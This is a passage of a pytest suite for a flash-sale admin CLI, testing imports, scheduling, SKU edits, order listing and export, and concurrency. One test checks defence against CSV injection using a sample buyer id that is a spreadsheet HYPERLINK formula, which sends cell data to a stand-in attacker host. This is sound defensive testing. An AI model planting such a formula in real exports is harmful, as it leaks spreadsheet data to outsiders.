    assert [(s.sku, s.title) for s in tabs.skus] == [("A1", "Shoe, red")]
    with pytest.raises(InvalidInput) as comma:  # their prices as they show them
        parse_csv("sku;stock;price;currency\nA1;5;149,99;EUR\n")
    assert comma.value.message.endswith("got '149,99' (minor units: 149,99 EUR is 14999)")


def test_files_saved_by_windows_in_utf_16_are_read(cli: Cli, db: Db, tmp_path: Path) -> None:
    """`flashsale sale show ID --template > next.json` in Windows PowerShell 5 writes UTF-16
    with a byte-order mark, as Excel's "Unicode Text" does: both were refused as "not UTF-8
    text". A file in a Windows code page stays refused, saying where and how to save it."""
    made = tmp_path / "next.json"
    made.write_bytes(json.dumps(SALE).encode("utf-16"))
    sale_id = cli("sale", "create", "--file", str(made), "--starts-in", "1h").out.strip()
    assert sale_id.startswith("sale-"), sale_id
    sheet = tmp_path / "unicode.txt"
    sheet.write_bytes("sku\ttitle\tstock\tprice\tcurrency\r\nSCHAL\tSchal für Damen\t3\t2500\t"
                      "EUR\r\n".encode("utf-16"))  # fmt: skip
    assert cli("sale", "import", str(sheet), "--sale", sale_id).code == 0
    assert db.rows("SELECT title FROM sale_skus WHERE sale_id=$1 AND sku='SCHAL'", sale_id)
    old = tmp_path / "ansi.csv"
    old.write_bytes("sku;title;stock;price;currency\r\nHUT;Hut für Damen;3;2500;EUR\r\n"
                    .encode("cp1252"))  # fmt: skip
    refused = cli("sale", "import", str(old), "--sale", sale_id)
    assert (refused.code, refused.err) == (2, f"flashsale: error: file: {old} is not UTF-8 text "
        "(byte 0xfc on line 2): save it as UTF-8 (Excel: \"CSV UTF-8\")\n"), refused  # fmt: skip


def test_a_sale_file_saved_with_a_byte_order_mark_is_read(cli: Cli, tmp_path: Path) -> None:
    """As Windows PowerShell's `Out-File -Encoding utf8` writes it: refused as "malformed JSON
    at line 1 column 1: Unexpected UTF-8 BOM"."""
    path = tmp_path / "sale.json"
    path.write_bytes(json.dumps(SALE).encode("utf-8-sig"))
    result = cli("sale", "create", "--file", str(path), "--starts-in", "1h")
    assert result.code == 0 and result.out.startswith("sale-"), result.err


def test_a_bad_csv_names_every_bad_cell(cli: Cli, counts: Any, tmp_path: Path) -> None:
    sale_id = create(cli, tmp_path)
    before = counts()
    content = "sku,stock,price,currency\nA,zero,100,EUR\nB,1,100,EUR\nC,2,-1,EUROS\n"
    result = cli("sale", "import", write(tmp_path, content, "skus.csv"), "--sale", sale_id)
    assert result.code == 2
    [line] = result.err.strip().splitlines()
    assert line.startswith("flashsale: error: row 2.stock: must be")
    assert "row 4.price" in line and "row 4.currency" in line and "3 errors" in line
    assert counts() == before


def test_a_live_sale_is_extended_by_a_duration(cli: Cli, tmp_path: Path) -> None:
    """Extending a sale that runs took an ISO 8601 time worked out by hand: `--ends-in 2h`
    ends it that long from now, as `--starts-in` opens one."""
    made = cli("sale", "create", "--name", "Live", "--sku", "A", "--stock", "1", "--price", "1",
               "--currency", "EUR")  # fmt: skip
    sale_id = made.out.strip()  # open now, for an hour
    before = datetime.now(UTC)
    result = cli("sale", "update", sale_id, "--ends-in", "2h", "--json")
    assert result.code == 0, result.err
    ends = datetime.fromisoformat(json.loads(result.out)["ends_at"].replace("Z", "+00:00"))
    assert timedelta(hours=2) <= ends - before < timedelta(hours=2, minutes=1), ends
    both = cli("sale", "update", sale_id, "--ends-in", "3h", "--ends-at", ends.isoformat())
    assert (both.code, both.err.strip()) == (
        2,
        "flashsale: error: --ends-in: give either --ends-at or --ends-in, not both",
    ), both
    bad = cli("sale", "update", sale_id, "--ends-in", "soon")
    assert bad.code == 2 and bad.err.startswith("flashsale: error: --ends-in: "), bad


def test_a_sale_is_created_with_its_end_as_a_duration(cli: Cli, tmp_path: Path) -> None:
    """`sale update` took `--ends-in 2h` and `sale create` did not (refused as an unknown
    flag); and `--starts-in 10m` with `--ends-at T` moved the end given with the window, to
    T + 10 minutes."""
    sku = ["--sku", "A", "--stock", "1", "--price", "1", "--currency", "EUR"]

    def window(*flags: str) -> tuple[timedelta, timedelta]:
        before = datetime.now(UTC)
        made = cli("sale", "create", "--name", "Drop", *sku, *flags, "--json")
        assert made.code == 0, made.err
        sale = json.loads(made.out)
        return (datetime.fromisoformat(sale["starts_at"]) - before,
                datetime.fromisoformat(sale["ends_at"]) - before)  # fmt: skip

    starts, ends = window("--starts-in", "10m", "--ends-in", "40m")
    assert timedelta(minutes=10) <= starts < timedelta(minutes=11), starts
    assert timedelta(minutes=40) <= ends < timedelta(minutes=41), ends
    starts, ends = window("--ends-in", "30m")  # open now, until then
    assert starts < timedelta(minutes=1) and timedelta(minutes=30) <= ends < timedelta(minutes=31)
    end = (datetime.now(UTC) + timedelta(hours=3)).replace(microsecond=0)
    starts, ends = window("--starts-in", "10m", "--ends-at", end.isoformat())
    assert abs(datetime.now(UTC) + ends - end) < timedelta(minutes=1), "the end given moved"
    # A sale file's end is replaced too, as --starts-in replaces its start.
    made = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "1h",
               "--ends-in", "1h30m", "--json")  # fmt: skip
    sale = json.loads(made.out)
    length = datetime.fromisoformat(sale["ends_at"]) - datetime.fromisoformat(sale["starts_at"])
    assert timedelta(minutes=29) < length <= timedelta(minutes=31), length
    for flags, said in (
        (("--ends-in", "10m", "--ends-at", end.isoformat()),
         "--ends-in: give either --ends-at or --ends-in, not both"),
        (("--starts-in", "1h", "--ends-in", "30m"),
         "--ends-in: must end after the start, 1h from now, got 30m"),
        (("--ends-in", "soon"),
         "--ends-in: must be a duration like 90s, 10m, 2h, 1d or 1h30m, got 'soon'"),
        # a duration of nothing is one: it is refused as such, not as not being one
        (("--starts-in", "0s"), "--starts-in: must be longer than 0s, got '0s'"),
    ):  # fmt: skip
        refused = cli("sale", "create", "--name", "Drop", *sku, *flags)
        assert (refused.code, refused.err.strip()) == (2, f"flashsale: error: {said}"), flags
    # The start an --ends-at before it is judged against is the one --starts-in put, not now.
    refused = cli("sale", "create", "--name", "Drop", *sku, "--starts-in", "1h",
                  "--ends-at", "2020-01-01T00:00:00Z")  # fmt: skip
    found = re.fullmatch(r"flashsale: error: --ends-at: must be after the start, (\S+), "
                         r"got 2020-01-01T00:00:00Z", refused.err.strip())  # fmt: skip
    assert refused.code == 2 and found, refused.err
    ahead = datetime.fromisoformat(found[1]) - datetime.now(UTC)
    assert timedelta(minutes=59) < ahead <= timedelta(hours=1), found[1]


def test_a_scheduled_sale_is_edited_from_the_cli(cli: Cli, db: Db, counts: Any,
                                                  tmp_path: Path) -> None:  # fmt: skip
    made = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "1h")
    sale_id = made.out.strip()
    result = cli("sale", "update", sale_id, "--name", "Moved drop", "--starts-in", "2h",
                 "--window", "90")  # fmt: skip
    assert result.code == 0, result.err
    # What changed, as it now is, in a line (it printed 30 lines of JSON: --json does); a new
    # start moves the end with it, so both are said.
    [line] = result.out.splitlines()
    assert re.fullmatch(rf'{sale_id}: name "Moved drop", starts_at \S+Z, ends_at \S+Z, '
                        r"admission_window_seconds 90", line), line  # fmt: skip
    edited = json.loads(cli("sale", "update", sale_id, "--window", "90", "--json").out)
    assert (edited["name"], edited["admission_window_seconds"]) == ("Moved drop", 90)
    # The settings, not every SKU (a 200,000-SKU sale printed 41 MB), and the SKU changed.
    assert "skus" not in edited
    priced = cli("sale", "update-sku", sale_id, "SNK-42", "--price", "9900")
    assert priced.code == 0, priced.err
    assert priced.out == f"{sale_id} SNK-42: price 9900 (99.00 EUR)\n", priced.out
    priced = cli("sale", "update-sku", sale_id, "SNK-42", "--title", "Low", "--json")
    assert json.loads(priced.out) == {**json.loads(priced.out), "sku": "SNK-42", "price": 9900}
    [row] = db.rows("SELECT price FROM sale_skus WHERE sale_id=$1 AND sku='SNK-42'", sale_id)
    assert row["price"] == 9900
    before = counts()
    for argv, field in (
        (("update", sale_id, "--window", "2"), "--window:"),
        (("update", sale_id), "update"),
        (("update-sku", sale_id, "SNK-42", "--price", "-1"), "--price:"),
        (("set-rate", sale_id, "0"), "N:"),
    ):
        refused = cli("sale", *argv)
        assert refused.code == 2, refused.err
        assert refused.err.startswith(f"flashsale: error: {field}"), refused.err
        assert len(refused.err.strip().splitlines()) == 1
    assert counts() == before
    [again] = db.rows("SELECT name, admission_window_seconds FROM sales WHERE id=$1", sale_id)
    assert (again["name"], again["admission_window_seconds"]) == ("Moved drop", 90)


def test_a_skus_limit_hold_time_and_currency_change_before_the_start(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    """`update-sku` took --title and --price only: a limit of 1 meant 2 needed a new sale."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    changed = cli("sale", "update-sku", sale_id, "SNK-42", "--limit", "2", "--ttl", "300",
                  "--currency", "USD")  # fmt: skip
    assert changed.code == 0, changed.err
    assert changed.out == (
        f"{sale_id} SNK-42: currency USD, per_buyer_limit 2, hold_ttl_seconds 300\n"
    ), changed.out
    [row] = db.rows("SELECT currency, per_buyer_limit, hold_ttl_seconds FROM sale_skus"
                    " WHERE sale_id=$1 AND sku='SNK-42'", sale_id)  # fmt: skip
    assert tuple(row.values()) == ("USD", 2, 300)
    meta = rdb.hmget(SkuKeys(sale_id, "SNK-42").meta, "currency", "per_buyer_limit",
                     "hold_ttl_ms")  # fmt: skip
    assert meta == ["USD", "2", "300000"]
    for flag, value in (("--limit", "0"), ("--ttl", "0"), ("--currency", "euro")):
        refused = cli("sale", "update-sku", sale_id, "SNK-42", flag, value)
        assert refused.code == 2 and refused.err.startswith(f"flashsale: error: {flag}: "), (
            refused.err
        )
    none = cli("sale", "update-sku", sale_id, "SNK-42")
    assert none.err.strip() == (
        "flashsale: error: update-sku: give --title, --price, --currency, --limit or --ttl"
    ), none.err


def test_a_price_is_refused_whose_largest_order_an_order_cannot_hold(
    cli: Cli, db: Db, tmp_path: Path
) -> None:
    """A new price is checked against the SKU's own per-buyer limit, not the default of 1."""
    made = cli("sale", "create", "--file", write(tmp_path, _sku(per_buyer_limit=10_000)),
               "--starts-in", "1h")  # fmt: skip
    sale_id = made.out.strip()
    refused = cli("sale", "update-sku", sale_id, "SNK-42", "--price", str(10**15))
    assert refused.code == 2, (refused.out, refused.err)
    assert refused.err.startswith("flashsale: error: --price: "), refused.err
    assert "with --limit 10000" in refused.err, refused.err  # the SKU's, by its flag
    [row] = db.rows("SELECT price FROM sale_skus WHERE sale_id=$1 AND sku='SNK-42'", sale_id)
    assert row["price"] == 12900
    # At the line: the largest amount an order records, 9,223,372,036,854,775,807.
    fits = cli("sale", "update-sku", sale_id, "SNK-42", "--price", str((2**63 - 1) // 10_000))
    assert fits.code == 0, fits.err
    # The limit changed alone past the line: the refusal names the limit, the one typed (it
    # named --price, which was not).
    assert cli("sale", "update-sku", sale_id, "SNK-42", "--limit", "1").code == 0
    assert cli("sale", "update-sku", sale_id, "SNK-42", "--price", str(10**15)).code == 0
    refused = cli("sale", "update-sku", sale_id, "SNK-42", "--limit", "10000")
    assert (refused.code, refused.err.strip()) == (2, "flashsale: error: --limit: with price "
        "1000000000000000, a buyer's largest order would be 10,000,000,000,000,000,000 minor "
        "units, more than an order can record (9,223,372,036,854,775,807): lower the price or "
        "the limit"), refused  # fmt: skip


def test_create_with_a_key_is_once_and_orders_export_as_csv(
    cli: Cli, db: Db, counts: Any, tmp_path: Path
) -> None:
    path = write(tmp_path, SALE)
    key = f"drop-{uuid.uuid4().hex}"  # keys are for ever: a stack reused by another run
    first = cli("sale", "create", "--file", path, "--idempotency-key", key)
    again = cli("sale", "create", "--file", path, "--idempotency-key", key)
    assert first.code == again.code == 0 and first.out == again.out
    sale_id = first.out.strip()
    before = counts()
    other = cli("sale", "create", "--file", write(tmp_path, {**SALE, "name": "Other"}),
                "--idempotency-key", key)  # fmt: skip
    # Named as typed: the API's header is this command's flag.
    assert other.code == 2 and other.err.startswith("flashsale: error: --idempotency-key: ")
    assert counts() == before
    db.execute(
        "INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency,"
        " admission_id, payment_token, state) VALUES ($1, $2, 'SNK-42', 'b1', 1, 12900, 'EUR',"
        " 'adm', 'tok_secret', 'CONFIRMED')", f"{sale_id}~SNK-42~r-1", sale_id,
    )  # fmt: skip
    exported = cli("sale", "orders", sale_id, "--csv")
    assert exported.code == 0, exported.err
    lines = exported.out.splitlines()
    assert lines[0].startswith("id,sku,buyer_id") and len(lines) == 2
    assert "tok_secret" not in exported.out
    listed = cli("sale", "orders", sale_id, "--state", "confirmed")
    assert listed.code == 0 and "CONFIRMED" in listed.out
    # The amount as a person reads it: the line said "12900 EUR" for a EUR 129 order. And who
    # bought it: only the CSV said, so a merchant shipping from the list had to export it.
    assert "  129.00 EUR  buyer b1  " in listed.out, listed.out
    bad = cli("sale", "orders", sale_id, "--state", "shipped")
    assert bad.code == 2 and bad.err.startswith("flashsale: error: --state: ")


def test_an_export_opened_in_a_spreadsheet_runs_no_buyer_id_as_a_formula(
    cli: Cli, db: Db, tmp_path: Path
) -> None:
    """Buyer ids are the storefront's (any printable ASCII): one written as
    ``=HYPERLINK(...)`` was a live formula in the merchandiser's spreadsheet (CSV injection).
    A buyer id that starts like a formula is exported behind an apostrophe, as OWASP
    advises; the others as they are."""
    sale_id = create(cli, tmp_path)
    ids = ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1)", "b-1=2"]
    for n, buyer in enumerate(ids):
        db.execute(
            "INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency,"
            " admission_id, payment_token, state) VALUES ($1, $2, 'SNK-42', $3, 1, 12900, 'EUR',"
            " 'adm', 'tok', 'CONFIRMED')", f"{sale_id}~SNK-42~r-{n}", sale_id, buyer,
        )  # fmt: skip
    exported = cli("sale", "orders", sale_id, "--csv")
    assert exported.code == 0, exported.err
    rows = list(csv.DictReader(io.StringIO(exported.out)))
    assert [r["buyer_id"] for r in rows] == [f"'{b}" for b in ids[:4]] + ["b-1=2"], rows


def test_a_sales_orders_are_listed_and_exported_in_the_order_they_were_placed(
    cli: Cli, db: Db, stack: Settings, tmp_path: Path
) -> None:
    """``sale orders`` listed them by id: a reservation id is a process's random prefix and a
    counter in hex, so a merchant reading who bought first saw the gateway processes' orders
    apart and ``r-…-10`` before ``r-…-9``. They come oldest first (by created_at, ties by
    id), in the list, in its pages (``after`` is still an order id) and in the CSV."""
    sale_id = create(cli, tmp_path)
    placed = datetime(2030, 6, 1, 12, 0, tzinfo=UTC)
    # (id suffix, seconds after the first): placed r-b-9, then r-a-10 and r-a-2 at once.
    for rid, at in (("r-b-9", 0), ("r-a-10", 1), ("r-a-2", 1), ("r-a-1", 3)):
        db.execute(
            "INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency,"
            " admission_id, payment_token, state, created_at) VALUES ($1, $2, 'SNK-42', 'b',"
            " 1, 12900, 'EUR', 'adm', 'tok', 'CONFIRMED', $3)",
            f"{sale_id}~SNK-42~{rid}", sale_id, placed + timedelta(seconds=at),
        )  # fmt: skip
    expected = [f"{sale_id}~SNK-42~{rid}" for rid in ("r-b-9", "r-a-10", "r-a-2", "r-a-1")]
    listed = cli("sale", "orders", sale_id)
    assert listed.code == 0, listed.err
    assert [line.split()[0] for line in listed.out.splitlines()] == expected, listed.out
    exported = cli("sale", "orders", sale_id, "--csv")
    assert [r["id"] for r in csv.DictReader(io.StringIO(exported.out))] == expected

    async def pages() -> list[list[str]]:
        pool, client = await pg_pool(stack, max_size=1), redis_client(stack)
        try:
            admin, after, found = SaleAdmin.build(pool, client), None, []
            while page := await admin.orders(sale_id, limit=1, after=after):
                found.append([o["id"] for o in page])
                after = page[-1]["id"]
            # An id that is no order of the sale would start nowhere: refused, naming it.
            with pytest.raises(InvalidInput, match=r"^after: no order 'r-a-1' in sale"):
                await admin.orders(sale_id, after="r-a-1")
            return found
        finally:
            await client.aclose()
            await pool.close()

    assert asyncio.run(pages()) == [[rid] for rid in expected]


def test_an_export_whose_reader_went_away_fails_and_gives_its_connection_back(
    cli: Cli, stack: Settings, tmp_path: Path
) -> None:
    """``sale orders --csv | head -1``, or a client hanging up on ``orders.csv``: the writer
    raising on the last chunk made asyncpg cancel a COPY that had already ended, and wait
    for an acknowledgement that never came, holding the connection for ever."""
    sale_id = create(cli, tmp_path)  # no orders: the header is the first and last chunk
    chunks: list[bytes] = []

    async def gone(_chunk: bytes) -> None:
        raise BrokenPipeError(32, "Broken pipe")

    async def kept(chunk: bytes) -> None:
        chunks.append(chunk)

    async def export_twice() -> None:
        pool, client = await pg_pool(stack, max_size=1), redis_client(stack)
        try:
            reads = SaleAdmin.build(pool, client)
            with pytest.raises(BrokenPipeError):
                await asyncio.wait_for(reads.export_orders(sale_id, gone), 10)
            # the pool's one connection is back, and usable
            await asyncio.wait_for(reads.export_orders(sale_id, kept), 10)
        finally:
            await client.aclose()
            await asyncio.wait_for(pool.close(), 10)

    asyncio.run(export_twice())
    assert b"".join(chunks).startswith(b"id,sku,buyer_id"), chunks


def test_a_change_of_rate_writes_no_sku_of_the_sale(
    stack: Settings, cli: Cli, rdb: redis.Redis, tmp_path: Path
) -> None:
    """Every settings change rewrote the opening and end in each SKU's hash: on a live
    200,000-SKU sale, a change of admission rate was 200,000 script calls and 5 s. The SKUs'
    hashes are written when the window moves, and only then."""
    made = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "1h")
    sale_id = made.out.strip()
    assert cli("sale", "preload", sale_id).code == 0
    meta = SkuKeys(sale_id, "SNK-42").meta
    written: list[str] = []

    async def change() -> None:
        pool, client = await pg_pool(stack, max_size=2), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            real = admin.scripts.set_fields_many

            async def spy(writes: Any) -> list[bool]:
                written.extend(key for key, _fields in writes)
                return await real(writes)

            admin.scripts.set_fields_many = spy  # type: ignore[method-assign]
            changed = await admin.set_admission_rate(sale_id, 40)
            assert changed["admission_rate"] == 40 and "skus" not in changed
            assert written == [SaleKeys(sale_id).sale], written  # the sale's hash alone
            later = datetime.now(UTC) + timedelta(hours=2)
            await admin.update(sale_id, {"starts_at": later.isoformat()})
            assert meta in written, written
            assert rdb.hget(meta, "starts_at_ms") == str(int(later.timestamp() * 1000))
        finally:
            await client.aclose()
            await pool.close()

    asyncio.run(change())


def test_two_imports_of_one_sku_at_once_refuse_one_in_words(
    stack: Settings, cli: Cli, db: Db, tmp_path: Path
) -> None:
    """Each import looked for the SKU before inserting it, without holding the sale: two at
    once both found nothing, and the second insert's unique violation was a traceback (a 500
    from the admin API)."""
    sale_id = create(cli, tmp_path)
    rows = "".join(f"TWIN-{i},Twin,5,100,EUR\n" for i in range(2000))
    batch = parse_csv("sku,title,stock,price,currency\n" + rows)

    async def at_once() -> list[Any]:
        pool, client = await pg_pool(stack, max_size=4), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            return list(
                await asyncio.gather(
                    *(admin.import_skus(sale_id, batch) for _ in range(3)), return_exceptions=True
                )
            )
        finally:
            await client.aclose()
            await pool.close()

    outcomes = asyncio.run(at_once())
    refused = [o for o in outcomes if isinstance(o, InvalidInput)]
    assert len(refused) == 2 and len([o for o in outcomes if isinstance(o, dict)]) == 1, outcomes
    assert all("already exists" in o.message for o in refused)
    assert db.val("SELECT count(*) FROM sale_skus WHERE sale_id = $1 AND sku LIKE 'TWIN-%'",
                  sale_id) == 2000  # fmt: skip


def test_skus_removed_at_once_leave_the_sale_listing_the_others(
    stack: Settings, cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    """Each removal wrote the sale's list of SKUs in Redis (the gateway's reservations check
    a SKU against it) from the rows its own transaction saw, without holding the sale: two
    removals at once each kept the other's SKU in the list, and the last one written listed
    a SKU that no longer existed."""
    sale_id = create(cli, tmp_path)
    rows = "".join(f"GONE-{i},Gone,5,100,EUR\n" for i in range(8))
    assert cli("sale", "import", "--sale", sale_id, write(tmp_path, "sku,title,stock,price,"
               "currency\n" + rows, "skus.csv")).code == 0  # fmt: skip
    assert cli("sale", "preload", sale_id).code == 0

    async def at_once() -> list[Any]:
        pool, client = await pg_pool(stack, max_size=10), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            write, late = admin.scripts.set_fields, [0.3]

            async def slow_once(key: str, fields: dict[str, str]) -> bool:
                if late:  # the first removal's write is slow (a busy Redis, a paused process)
                    await asyncio.sleep(late.pop())
                return await write(key, fields)

            admin.scripts.set_fields = slow_once  # type: ignore[method-assign]
            return list(await asyncio.gather(
                *(admin.remove_sku(sale_id, f"GONE-{i}", with_skus=False) for i in range(8)),
                return_exceptions=True,
            ))  # fmt: skip
        finally:
            await client.aclose()
            await pool.close()

    outcomes = asyncio.run(at_once())
    assert all(isinstance(o, dict) for o in outcomes), outcomes
    left = [r["sku"] for r in db.rows(
        "SELECT sku FROM sale_skus WHERE sale_id = $1 ORDER BY sku", sale_id)]  # fmt: skip
    assert left == ["SNK-42", "SNK-43"]
    assert sorted(str(rdb.hget(SaleKeys(sale_id).sale, "skus")).split(",")) == left


def test_a_sale_paused_during_its_preload_is_paused_on_every_sku(
    stack: Settings, cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    """A preload wrote each SKU's configuration from the sale as it read it at its start: a
    sale paused meanwhile (its first preload of 12,000 SKUs takes a second or more) was
    paused on the SKUs Redis had by then, and the preload wrote the others active after it,
    so they sold while the sale was paused until a reconcile pass. A change to the sale now
    waits for a preload under way, and the preload for a change under way."""
    sale_id = create(cli, tmp_path)
    rows = "".join(f"P{i},Item,5,100,EUR\n" for i in range(2 * SKUS_PER_PART))
    assert cli("sale", "import", "--sale", sale_id, write(tmp_path, "sku,title,stock,price,"
               "currency\n" + rows, "skus.csv")).code == 0  # fmt: skip

    async def at_once() -> None:
        pool, client = await pg_pool(stack, max_size=4), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            preload_many, first_part = admin.scripts.preload_many, asyncio.Event()

            async def slowly(*args: Any, **kwargs: Any) -> Any:
                done = await preload_many(*args, **kwargs)
                first_part.set()
                await asyncio.sleep(0.2)
                return done

            admin.scripts.preload_many = slowly  # type: ignore[method-assign]
            preload = asyncio.ensure_future(admin.preload(sale_id))
            await first_part.wait()
            await admin.set_status(sale_id, "pause", with_skus=False)
            await preload
        finally:
            await client.aclose()
            await pool.close()

    asyncio.run(at_once())
    skus = [r["sku"] for r in db.rows("SELECT sku FROM sale_skus WHERE sale_id = $1", sale_id)]
    with rdb.pipeline(transaction=False) as pipe:
        for sku in skus:
            pipe.hget(SkuKeys(sale_id, sku).meta, "status")
        statuses = Counter(pipe.execute())
    assert statuses == Counter({"paused": 2 * SKUS_PER_PART + 2}), statuses  # two of SALE
    assert rdb.hget(SaleKeys(sale_id).sale, "status") == "paused"


def test_preloads_at_once_both_go_through(stack: Settings, cli: Cli, tmp_path: Path) -> None:
    """A preload holds its sale while it writes Redis; two at once (a double click, the
    CLI and the admin API) take turns rather than deadlock on the sale's row."""
    sale_id = create(cli, tmp_path)

    async def at_once() -> list[Any]:
        pool, client = await pg_pool(stack, max_size=4), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            return list(await asyncio.gather(*(admin.preload(sale_id) for _ in range(3)),
                                             return_exceptions=True))  # fmt: skip
        finally:
            await client.aclose()
            await pool.close()

    outcomes = asyncio.run(at_once())
    assert all(isinstance(o, list) for o in outcomes), outcomes


@pytest.mark.parametrize("operation", ["status", "preload", "pause"])
def test_an_operation_over_a_large_sale_leaves_the_event_loop_to_others(
    stack: Settings, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, operation: str
) -> None:
    """On a 200,000-SKU sale the status held a gateway process's event loop for 2.2 s at a
    time (the live page asked for it every second), a preload for 1.8 s and a pause for
    1.0 s, its buyers waiting meanwhile: the admin API shares the gateway processes. Each now
    reads or writes a part of the SKUs at a time, letting the loop run between parts: the
    longest stretch without the loop is a fraction of the same work in one part."""
    made = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "1h")
    sale_id = made.out.strip()
    rows = "".join(f"K{i},Item {i},5,100,EUR\n" for i in range(12_000))
    path = write(tmp_path, "sku,title,stock,price,currency\n" + rows, "many.csv")
    assert cli("sale", "import", path, "--sale", sale_id).code == 0
    assert cli("sale", "preload", sale_id).code == 0

    def work(admin: SaleAdmin) -> Awaitable[Any]:
        if operation == "status":
            return admin.status(sale_id)
        if operation == "preload":
            return admin.preload(sale_id)
        return admin.set_status(sale_id, "pause", with_skus=False)

    async def measure() -> tuple[float, float]:
        pool, client = await pg_pool(stack, max_size=2), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            await work(admin)  # warm: the connections and the script cache
            monkeypatch.setattr(sale_reads, "SKUS_PER_PART", 1_000_000)
            # The least of two runs each.
            whole = min([await longest_stall(work(admin)) for _ in range(2)])
            monkeypatch.setattr(sale_reads, "SKUS_PER_PART", 400)
            parts = min([await longest_stall(work(admin)) for _ in range(2)])
            return whole, parts
        finally:
            await client.aclose()
            await pool.close()

    whole, parts = asyncio.run(measure())
    # CPU time of the loop's thread for 12,000 SKUs, measured here: status 5 ms against 69 ms,
    # preload 8 against 98-104, pause 5 against 41-43; all in one part, as before, about equal.
    assert parts * 3 < whole, (parts, whole)


def test_a_sale_shown_as_a_template_makes_the_next_sale(cli: Cli, tmp_path: Path) -> None:
    """Last week's drop as the template of this week's: ``sale show`` printed fields a sale
    file may not have, and the file was refused "archived_at: unknown field"."""
    sale_id = create(cli, tmp_path)
    shown = cli("sale", "show", sale_id)
    refused = cli("sale", "create", "--file", write(tmp_path, shown.out, "shown.json"))
    assert refused.code == 2, refused.err
    assert "the sale's own (as `sale show` prints it)" in refused.err, refused.err
    assert "--template" in refused.err, refused.err
    template = cli("sale", "show", sale_id, "--template")
    assert template.code == 0, template.err
    spec = json.loads(template.out)
    assert "id" not in spec and "status" not in spec and "shuffle" not in spec, spec
    again = cli("sale", "create", "--file", write(tmp_path, template.out, "t.json"),
                "--starts-in", "1d", "--json")  # fmt: skip
    assert again.code == 0, again.err
    made = json.loads(again.out)
    original = json.loads(shown.out)
    assert made["id"] != sale_id and made["name"] == original["name"]
    assert made["skus"] == original["skus"]
    assert made["admission_rate"] == original["admission_rate"]


def test_an_ended_sales_units_left_make_the_next_sale(
    cli: Cli, tmp_path: Path, rdb: redis.Redis, db: Db
) -> None:
    """Units left unsold (buyers walked away, the sale ran out of time) go to another sale:
    the template carried the whole stock again, and the runbook had the operator copy each
    SKU's units left from `sale status` by hand."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    # SNK-42: 2 sold, 1 held (a hold not settled yet); SNK-43: every unit sold.
    rdb.hset(SkuKeys(sale_id, "SNK-42").stock, mapping={"available": 97, "sold": 2, "active": 1})
    rdb.hset(SkuKeys(sale_id, "SNK-43").stock, mapping={"available": 0, "sold": 10})
    early = cli("sale", "show", sale_id, "--template", "--left")
    assert early.code == 1 and "has not ended" in early.err and "sale end" in early.err, early
    assert cli("sale", "end", sale_id).code == 0
    left = cli("sale", "show", sale_id, "--template", "--left")
    assert left.code == 0, left.err
    spec = json.loads(left.out)
    assert [(s["sku"], s["stock"]) for s in spec["skus"]] == [("SNK-42", 97)], spec
    assert "1 unit of SNK-42 is still held" in left.err, left.err
    made = cli("sale", "create", "--file", write(tmp_path, left.out, "left.json"),
               "--starts-in", "1h", "--json")  # fmt: skip
    assert made.code == 0, made.err
    assert [s["stock"] for s in json.loads(made.out)["skus"]] == [97]
    alone = cli("sale", "show", sale_id, "--left")
    assert alone.code == 2 and "--template" in alone.err, alone.err
    rdb.hset(SkuKeys(sale_id, "SNK-42").stock, mapping={"available": 0, "sold": 100, "active": 0})
    none = cli("sale", "show", sale_id, "--template", "--left")
    assert none.code == 1 and "no unit left" in none.err and not none.out, none
    # A SKU Redis no longer has (an old sale's, lost): its stock less its confirmed orders,
    # never its whole stock again.
    rdb.delete(SkuKeys(sale_id, "SNK-43").stock)
    db.execute("UPDATE sale_skus SET sold = 4 WHERE sale_id = $1 AND sku = 'SNK-43'", sale_id)
    lost = cli("sale", "show", sale_id, "--template", "--left")
    assert lost.code == 0 and json.loads(lost.out)["skus"][0]["stock"] == 6, lost
    assert "SNK-43 is not in Redis" in lost.err, lost.err


def test_the_list_pages_past_its_newest_thousand_sales(cli: Cli, tmp_path: Path) -> None:
    """``sale list`` showed only the newest 1,000 sales, with no way to the older ones that
    the admin API's ``offset`` reaches."""
    made = [create(cli, tmp_path) for _ in range(3)]  # the newest three, newest last
    newest = cli("sale", "list", "--limit", "2", "--json")
    older = cli("sale", "list", "--limit", "2", "--offset", "1", "--json")
    assert newest.code == 0 and older.code == 0, older.err
    assert [s["id"] for s in json.loads(newest.out)] == [made[2], made[1]]
    assert [s["id"] for s in json.loads(older.out)] == [made[1], made[0]]
    # A page that stops short of the older sales says how to reach them; it said nothing,
    # and the default 1,000 looked like all of them.
    shown = cli("sale", "list", "--limit", "2", "--state", "scheduled")
    assert [line.split()[0] for line in shown.out.splitlines()] == [made[2], made[1]], shown.out
    assert shown.err == ("2 sales shown (older ones: `flashsale sale list --limit 2 --state "
                         "scheduled --offset 2`)\n"), shown.err  # fmt: skip
    assert cli("sale", "list", "--offset", "100000000").err == ""
    bad = cli("sale", "list", "--offset", "-1")
    assert bad.code == 2 and bad.err.startswith("flashsale: error: --offset: "), bad.err


def test_the_list_filters_by_the_state_it_shows(cli: Cli, db: Db, tmp_path: Path) -> None:
    """The list shows each sale's state (scheduled, live, paused, ended), but filtered only by
    the status pause, resume and end set: a sale past its end time, never ended by hand, was
    missing from ``--status ended`` and listed under ``--status active``."""
